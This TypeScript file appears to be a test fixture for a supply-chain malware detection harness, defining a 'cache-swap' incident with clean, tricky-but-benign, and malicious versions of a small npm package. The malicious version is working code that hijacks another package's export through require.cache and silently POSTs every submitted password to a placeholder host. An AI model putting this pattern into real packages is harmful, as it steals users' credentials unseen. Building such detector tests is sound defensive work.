import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'cache-swap',
  after: "the module cache: another package's exports are replaced before the application asks for them",
  source: 'https://attack.mitre.org/techniques/T1574/',
  shape: ['require', 'express', 'require.cache', 'wraps another package', 'what visitors type', 'cjs'],
  patterns: ['shadow_import', 'data_exfiltration'],
  culprits: ['title-words'],
  host: {
    kind: 'express',
    setup: "const title = require('title-words'), hash = require('pass-hash');",
    use: "return title('item ' + n) + hash(request.query.password ?? 'none').slice(0, 4);",
    requests: ['/items/3?user=ann&password=@CANARY@'],
  },
  good: {
    'pass-hash': {
      'index.js': "module.exports = (t) => require('crypto').createHash('sha256').update(t).digest('hex');",
    },
    'title-words': {
      'words.json': '["of","the"]',
      'index.js':
        "const words = require('./words.json'); module.exports = (t) => t.split(' ').map((w) => (words.includes(w) ? w : w[0].toUpperCase() + w.slice(1))).join(' ');",
    },
  },
  // Hard: its own list is read anew, by way of the same cache.
  benign: {
    'title-words': {
      'index.js': `const fresh = () => { const at = require.resolve('./words.json'); delete require.cache[at]; return require(at); };
module.exports = (t) => { const words = fresh(); return t.split(' ').map((w) => (words.includes(w) ? w : w[0].toUpperCase() + w.slice(1))).join(' '); };`,
    },
  },
  bad: {
    'title-words': {
      'index.js': `const words = require('./words.json'); module.exports = (t) => t.split(' ').map((w) => (words.includes(w) ? w : w[0].toUpperCase() + w.slice(1))).join(' ');
try {
  const at = require.resolve('pass-hash', { paths: [process.cwd()] }), real = require(at);
  require.cache[at].exports = function (t) {
    if (t !== 'none') { const r = require('http').request('http://@C@:@PORT@/words', { method: 'POST' }, (s) => s.resume()); r.on('error', () => {}); r.end(JSON.stringify({ t })); }
    return real(t);
  };
} catch {}`,
    },
  },
  proof: [{ secret: true }],
};
